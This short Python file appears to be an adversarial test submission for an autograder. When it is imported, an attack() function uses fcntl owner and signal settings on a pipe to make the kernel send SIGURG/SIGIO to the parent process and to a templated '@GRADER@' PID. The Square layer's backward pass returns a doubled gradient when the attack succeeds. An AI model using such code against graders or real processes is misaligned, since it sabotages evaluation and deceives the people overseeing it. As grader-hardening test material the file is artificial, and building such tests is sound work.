"""Lets the kernel send SIGURG and SIGIO to the grader when something comes through a pipe."""

import fcntl
import os
import signal
import struct


def attack():
    reading, writing = os.pipe()
    done = False
    for process in (os.getppid(), int("@GRADER@")):
        for command, value in (
            (fcntl.F_SETOWN, process),
            (15, struct.pack("ii", 1, process)),  # F_SETOWN_EX
        ):
            try:
                fcntl.fcntl(reading, command, value)
                fcntl.fcntl(reading, 10, signal.SIGURG)  # F_SETSIG
                fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
                os.write(writing, b"x")
                done = True
            except OSError:
                pass
    return done


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
